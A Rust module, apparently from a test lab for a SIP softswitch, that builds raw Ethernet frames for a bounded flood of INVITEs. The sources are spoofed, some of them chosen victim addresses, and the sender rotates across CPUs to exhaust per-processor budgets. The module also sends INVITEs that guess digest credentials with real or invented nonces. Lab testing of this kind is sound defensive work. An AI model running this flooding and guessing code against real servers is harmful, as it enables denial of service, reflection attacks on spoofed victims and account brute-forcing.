//! INVITEs of an attacker: a flood of them with false source addresses, put on the wire as whole frames, and single ones from a
//! socket, to get a nonce and to guess with it. Every flood is bounded, in packets and in time.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};
use nix::sched::{CpuSet, sched_getaffinity, sched_setaffinity};
use nix::unistd::Pid;

use crate::frame::Frame;
use crate::lab::{Host, Lab};
use crate::peers::SIP_PORT;

/// Frames in one system call.
const BATCH: usize = 64;
/// Batches until the next processor.
const STAY: usize = 16;
/// Where the eight hex digits stand that make each message another one.
const SERIAL: &str = "00000000";
/// Offsets in a frame without VLAN tags and IPv4 options.
const IP_CHECKSUM: usize = 24;
const SOURCE: usize = 26;
const SOURCE_PORT: usize = 34;
/// Not a divisor of, and with no common factor with, any round number of sources: neighbours in time are none in address.
const STRIDE: u64 = 61_031;

/// Credentials that an attacker writes into an INVITE; the response is a guess.
#[derive(Clone, Debug)]
pub struct Guess {
    /// Username.
    pub username: String,
    /// Realm.
    pub realm: String,
    /// A nonce: invented, or issued to somebody.
    pub nonce: String,
}

impl Guess {
    /// With a nonce that looks like one and is none.
    #[must_use]
    pub fn invented(username: &str, realm: &str) -> Self {
        Self {
            username: username.into(),
            realm: realm.into(),
            nonce: "AZ0kPpYAAZ0kPpWAAAAAAAAAAAHq3l0Xw7Bq5nUu8b1JxV2c".into(),
        }
    }
}

/// An INVITE as attackers send it.
fn invite(guess: Option<&Guess>) -> String {
    let server = Host::Softswitch.v4();
    let authorization = guess.map_or_else(String::new, |guess| {
        format!(
            "Authorization: Digest username=\"{}\", realm=\"{}\", nonce=\"{}\", uri=\"sip:100@{server}\", \
             response=\"{SERIAL}0123456789abcdef01234567\", algorithm=MD5, cnonce=\"{SERIAL}\", qop=auth, nc=00000001\r\n",
            guess.username, guess.realm, guess.nonce
        )
    });
    format!(
        "INVITE sip:100@{server} SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.66:5060;branch=z9hG4bK{SERIAL}\r\nMax-Forwards: 70\r\n\
         From: <sip:a@192.0.2.66>;tag={SERIAL}\r\nTo: <sip:100@{server}>\r\nCall-ID: {SERIAL}@192.0.2.66\r\nCSeq: 1 INVITE\r\n\
         Contact: <sip:a@192.0.2.66>\r\n{authorization}Content-Length: 0\r\n\r\n"
    )
}

/// Positions of [`SERIAL`] in a message.
fn serials(bytes: &[u8]) -> Vec<usize> {
    bytes
        .windows(SERIAL.len())
        .enumerate()
        .filter(|(_, window)| *window == SERIAL.as_bytes())
        .map(|(at, _)| at)
        .collect()
}

fn hex(n: u32) -> [u8; 8] {
    let mut text = [0; 8];
    for (i, digit) in text.iter_mut().enumerate() {
        *digit = b"0123456789abcdef"[(n >> (28 - 4 * i) & 15) as usize];
    }
    text
}

/// Frames with false sources, from [`Host::Stranger`]'s wire to the softswitch.
#[derive(Clone, Debug)]
pub struct Flood {
    /// Different addresses, in 10.0.0.0/8.
    pub sources: u32,
    /// Now and then (one frame in [`Flood::every`]) the source is one of these instead.
    pub victims: Vec<SocketAddrV4>,
    /// See `victims`; 1 for always.
    pub every: u64,
    /// Sends INVITEs with these credentials and without any, in turn.
    pub guesses: Vec<Guess>,
    /// Ends after so many frames.
    pub frames: u64,
    /// Ends after this time.
    pub time: Duration,
}

/// What a flood came to.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    /// Frames that the wire took.
    pub frames: u64,
    /// How long it took.
    pub elapsed: Duration,
}

impl Flood {
    /// From so many sources, without credentials; a million frames or ten seconds.
    #[must_use]
    pub const fn from(sources: u32) -> Self {
        Self {
            sources,
            victims: Vec::new(),
            every: 1,
            guesses: Vec::new(),
            frames: 1_000_000,
            time: Duration::from_secs(10),
        }
    }

    /// Sends it, and waits for its end.
    ///
    /// # Errors
    /// When there is no packet socket, or the wire takes nothing.
    pub fn run(&self, lab: &Lab) -> anyhow::Result<Sent> {
        let (to, from) = (mac(lab, Host::Softswitch)?, mac(lab, Host::Stranger)?);
        let guesses = std::iter::once(None).chain(self.guesses.iter().map(Some));
        let kinds: Vec<Kind> = guesses.map(|guess| Kind::new(guess, to, from)).collect();
        lab.inside(Host::Stranger, || self.send(&kinds))
    }

    fn send(&self, kinds: &[Kind]) -> anyhow::Result<Sent> {
        let socket = packet_socket()?;
        let allowed = sched_getaffinity(Pid::from_raw(0))?;
        let mut frames: Vec<Vec<u8>> = (0..BATCH).map(|i| kinds[i % kinds.len()].frame.clone()).collect();
        let begin = Instant::now();
        let (mut sent, mut turn) = (0, 0);
        while sent < self.frames && begin.elapsed() < self.time {
            if turn % STAY == 0 {
                move_on(&allowed, turn / STAY)?;
            }
            turn += 1;
            for (i, frame) in frames.iter_mut().enumerate() {
                let number = sent + i as u64;
                let (address, port) = self.source(number);
                kinds[i % kinds.len()].stamp(frame, address, port, u32::try_from(number & 0xffff_ffff)?);
            }
            let room = usize::try_from(self.frames - sent)?.min(BATCH);
            sent += send_batch(&socket, &mut frames[..room])?;
        }
        Ok(Sent {
            frames: sent,
            elapsed: begin.elapsed(),
        })
    }

    fn source(&self, number: u64) -> (Ipv4Addr, u16) {
        let turn = number / self.every;
        if !self.victims.is_empty() && number.is_multiple_of(self.every) {
            let index = usize::try_from(turn).unwrap_or(0) % self.victims.len();
            let victim = self.victims[index];
            let round = turn / self.victims.len() as u64;
            // From the victim's own port and, as often, from another.
            return (*victim.ip(), if round.is_multiple_of(2) { victim.port() } else { port_of(round) });
        }
        let which = number.wrapping_mul(STRIDE) % u64::from(self.sources);
        let address = u32::from(Ipv4Addr::new(10, 1, 0, 0)) + u32::try_from(which).unwrap_or(0);
        (Ipv4Addr::from(address), port_of(number))
    }
}

fn port_of(number: u64) -> u16 {
    u16::try_from(1024 + number % 60_000).unwrap_or(u16::MAX)
}

/// A frame and where its fields are.
struct Kind {
    frame: Vec<u8>,
    serials: Vec<usize>,
}

impl Kind {
    fn new(guess: Option<&Guess>, to: [u8; 6], from: [u8; 6]) -> Self {
        let mut frame = Frame {
            destination: IpAddr::V4(Host::Softswitch.v4()),
            destination_port: SIP_PORT,
            source: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
            // Over IPv4 zero means that there is none (RFC 768): one thing less to compute for each frame.
            no_checksum: true,
            payload: invite(guess).into_bytes(),
            ..Frame::invite()
        }
        .bytes();
        frame[..6].copy_from_slice(&to);
        frame[6..12].copy_from_slice(&from);
        let serials = serials(&frame);
        Self { frame, serials }
    }

    fn stamp(&self, frame: &mut [u8], address: Ipv4Addr, port: u16, serial: u32) {
        frame[SOURCE..SOURCE + 4].copy_from_slice(&address.octets());
        frame[SOURCE_PORT..SOURCE_PORT + 2].copy_from_slice(&port.to_be_bytes());
        let digits = hex(serial);
        for at in &self.serials {
            frame[*at..*at + SERIAL.len()].copy_from_slice(&digits);
        }
        frame[IP_CHECKSUM..IP_CHECKSUM + 2].fill(0);
        let mut sum: u32 = frame[14..34]
            .as_chunks()
            .0
            .iter()
            .map(|&word| u32::from(u16::from_be_bytes(word)))
            .sum();
        sum = (sum & 0xffff) + (sum >> 16);
        sum = (sum & 0xffff) + (sum >> 16);
        let checksum = !u16::try_from(sum & 0xffff).unwrap_or(0);
        frame[IP_CHECKSUM..IP_CHECKSUM + 2].copy_from_slice(&checksum.to_be_bytes());
    }
}

/// Moves the thread to the next processor. The kernel program runs where the sender does, and its budgets are per processor: a card
/// would spread so many sources over all of them.
fn move_on(allowed: &CpuSet, turn: usize) -> anyhow::Result<()> {
    let all: Vec<usize> = (0..CpuSet::count()).filter(|&cpu| allowed.is_set(cpu).unwrap_or(false)).collect();
    let mut one = CpuSet::new();
    one.set(all[turn % all.len()])?;
    Ok(sched_setaffinity(Pid::from_raw(0), &one)?)
}

/// Bound to `eth0` of the namespace that the thread is in.
fn packet_socket() -> anyhow::Result<OwnedFd> {
    let index = nix::net::if_::if_nametoindex("eth0").context("eth0")?;
    // SAFETY: no preconditions. Protocol 0: nothing is ever received.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    ensure!(fd >= 0, "packet socket: {}", std::io::Error::last_os_error());
    // SAFETY: just made, and nobody else's.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let address = libc::sockaddr_ll {
        sll_family: u16::try_from(libc::AF_PACKET)?,
        sll_protocol: 0,
        sll_ifindex: i32::try_from(index)?,
        sll_hatype: 0,
        sll_pkttype: 0,
        sll_halen: 0,
        sll_addr: [0; 8],
    };
    // SAFETY: pointer and length describe `address`.
    let bound = unsafe { libc::bind(fd, (&raw const address).cast(), libc::socklen_t::try_from(size_of_val(&address))?) };
    ensure!(bound == 0, "eth0: {}", std::io::Error::last_os_error());
    Ok(socket)
}

/// Sends all of them, or as many as the wire takes at once.
fn send_batch(socket: &OwnedFd, frames: &mut [Vec<u8>]) -> anyhow::Result<u64> {
    let mut parts: Vec<libc::iovec> = frames
        .iter_mut()
        .map(|frame| libc::iovec {
            iov_base: frame.as_mut_ptr().cast(),
            iov_len: frame.len(),
        })
        .collect();
    let mut headers: Vec<libc::mmsghdr> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: integers and pointers, of which zero is a valid value.
            let mut header: libc::mmsghdr = unsafe { std::mem::zeroed() };
            header.msg_hdr.msg_iov = part;
            header.msg_hdr.msg_iovlen = 1;
            header
        })
        .collect();
    let count = u32::try_from(headers.len())?;
    // SAFETY: `count` headers, each with one vector that points at a frame; all outlive the call.
    let sent = unsafe { libc::sendmmsg(socket.as_raw_fd(), headers.as_mut_ptr(), count, 0) };
    match u64::try_from(sent) {
        Ok(sent) => Ok(sent),
        Err(_) => match std::io::Error::last_os_error() {
            error if matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EINTR | libc::EAGAIN)) => Ok(0),
            error => Err(error).context("the wire"),
        },
    }
}

/// Address of a host's interface.
///
/// # Errors
/// When it has none.
pub fn mac(lab: &Lab, host: Host) -> anyhow::Result<[u8; 6]> {
    let links: serde_json::Value = serde_json::from_str(&lab.run(host, &["ip", "-json", "link", "show", "eth0"])?)?;
    let text = links[0]["address"].as_str().context("no address of eth0")?;
    let mut mac = [0; 6];
    for (byte, digits) in mac.iter_mut().zip(text.split(':')) {
        *byte = u8::from_str_radix(digits, 16)?;
    }
    Ok(mac)
}

/// An INVITE from a socket of `from`, and the answer to it, if one comes within a second.
///
/// # Errors
/// When there is no socket.
pub fn ask(lab: &Lab, from: Host, port: u16, guess: Option<&Guess>, serial: u32) -> anyhow::Result<Option<String>> {
    let mut message = invite(guess).into_bytes();
    for at in serials(&message) {
        message[at..at + SERIAL.len()].copy_from_slice(&hex(serial));
    }
    lab.inside(from, || {
        let socket = UdpSocket::bind(SocketAddr::new(IpAddr::V4(from.v4()), port))?;
        socket.set_read_timeout(Some(Duration::from_secs(1)))?;
        socket.send_to(&message, (Host::Softswitch.v4(), SIP_PORT))?;
        let mut answer = [0; 4096];
        Ok(match socket.recv(&mut answer) {
            Ok(length) => Some(String::from_utf8_lossy(&answer[..length]).into_owned()),
            Err(_) => None,
        })
    })
}

/// A quoted parameter, such as `nonce`, of the challenge in an answer.
#[must_use]
pub fn parameter<'a>(answer: &'a str, name: &str) -> Option<&'a str> {
    let (_, rest) = answer.split_once(&format!("{name}=\""))?;
    rest.split_once('"').map(|(value, _)| value)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn the_sources_are_as_many_as_promised_and_the_headers_are_right() {
        let flood = Flood::from(100_000);
        let sources: HashSet<Ipv4Addr> = (0..100_000).map(|n| flood.source(n).0).collect();
        assert_eq!(sources.len(), 100_000);
        let kind = Kind::new(Some(&Guess::invented("a", "b")), [2; 6], [4; 6]);
        let mut frame = kind.frame.clone();
        kind.stamp(&mut frame, Ipv4Addr::new(10, 200, 3, 4), 5060, 0xdead_beef);
        let header: u32 = frame[14..34].as_chunks().0.iter().map(|&w| u32::from(u16::from_be_bytes(w))).sum();
        assert_eq!((header & 0xffff) + (header >> 16), 0xffff);
        assert!(frame.windows(8).any(|window| window == b"deadbeef"));
    }
}
